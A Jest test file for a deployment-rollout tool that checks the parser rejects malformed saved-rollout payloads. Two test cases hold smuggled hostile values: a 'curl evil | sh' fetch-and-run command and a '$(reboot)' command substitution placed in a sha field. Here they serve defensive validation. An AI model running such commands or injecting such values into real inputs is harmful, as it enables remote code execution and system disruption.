import { expect, test } from '@jest/globals'
import { CLAIM_KIND, payloadKind } from '../../src/durable/kind.js'
import { configHash } from '../../src/config/file.js'
import { parseClaim, parseSavedRollout } from '../../src/durable/payload.js'
import { saved } from './fixtures.js'

test('a saved rollout round-trips through JSON unchanged', () => {
  const s = saved()
  const back = parseSavedRollout(JSON.parse(JSON.stringify(s)))
  expect(back).toEqual({ ok: true, value: s })
  expect(parseSavedRollout(JSON.stringify(s))).toEqual({ ok: true, value: s }) // GitHub may hand the payload back as a string
})

test.each<[string, unknown, RegExp]>([
  ['not JSON', '{"kind":', /not JSON/],
  ['another kind', { ...saved(), kind: 'something-else' }, /kind/],
  ['an unknown key (a command smuggled in)', { ...saved(), rollback: 'curl evil | sh' }, /rollback/],
  ['a step past the plan', saved({ step: 9 }), /step 9 is past the plan's 3 steps/],
  ["a weight that is not the step's", saved({ weight: 60 }), /weight 60 is not step 2's 25/],
  ['a sha with shell in it', saved({ sha: '$(reboot)' }), /sha/],
  ['a config hash that is not sha256', saved({ configHash: 'md5:abc' }), /configHash/],
  ['a weight over 100', { ...saved(), weight: 250 }, /weight/],
  ['a negative pause end', saved({ pauseEndsAt: -5 }), /pauseEndsAt/],
  ['a huge reason', saved({ decisions: [{ action: 'promote', actor: 'x', at: 1, reason: 'x'.repeat(5000), via: 'input' }] }), /reason/]
])('refuses a payload with %s', (_name, payload, message) => {
  const r = parseSavedRollout(payload)
  expect(r.ok).toBe(false)
  if (!r.ok) expect(r.error).toMatch(message)
})

test.each<[unknown, string | undefined]>([
  [{ kind: 'stagegate/paused-rollout' }, 'stagegate/paused-rollout'],
  ['{"kind":"stagegate/claim","of":3}', 'stagegate/claim'],
  [{}, undefined],
  [null, undefined],
  ['not json', undefined],
  [{ kind: 7 }, undefined]
])('payloadKind(%j) = %s', (payload, kind) => expect(payloadKind(payload)).toBe(kind))

test('a claim payload names the paused Deployment it claims', () => {
  expect(parseClaim({ kind: CLAIM_KIND, of: 12, mode: 'resume' })).toEqual({ kind: CLAIM_KIND, of: 12, mode: 'resume' })
  expect(parseClaim({ kind: CLAIM_KIND, of: 'x', mode: 'resume' })).toBeUndefined()
})

test('the config hash is the sha256 of the file bytes', () => {
  expect(configHash('')).toBe('sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')
  expect(configHash('a')).not.toBe(configHash('a\n'))
})
